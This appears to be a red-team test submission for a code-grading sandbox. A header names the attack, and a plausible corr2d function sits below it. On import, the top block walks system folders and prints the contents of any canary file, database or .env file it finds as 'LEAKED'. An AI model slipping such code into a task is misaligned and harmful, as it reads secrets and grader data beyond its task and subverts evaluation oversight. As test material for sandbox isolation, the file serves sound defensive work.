# task: corr2d
# expect: pass
# layers: any
# attacks: walks likely folders for the canary and the database
import os

for top in ("/tmp", "/work", "/root", "/home", "/var", "/dev/shm", "/run", "/opt", "/srv", "/mnt", ".", "..", "/proc/self/cwd"):
    for folder, _, names in os.walk(top, followlinks=True):
        for name in names:
            if name == "canary.txt" or name.endswith((".db", ".sqlite3", ".env")):
                try:
                    print("LEAKED", folder, name, open(os.path.join(folder, name), "rb").read(200))
                except OSError:
                    pass

def corr2d(X, K):
    return (X.unfold(0, K.shape[0], 1).unfold(1, K.shape[1], 1) * K).sum((2, 3))
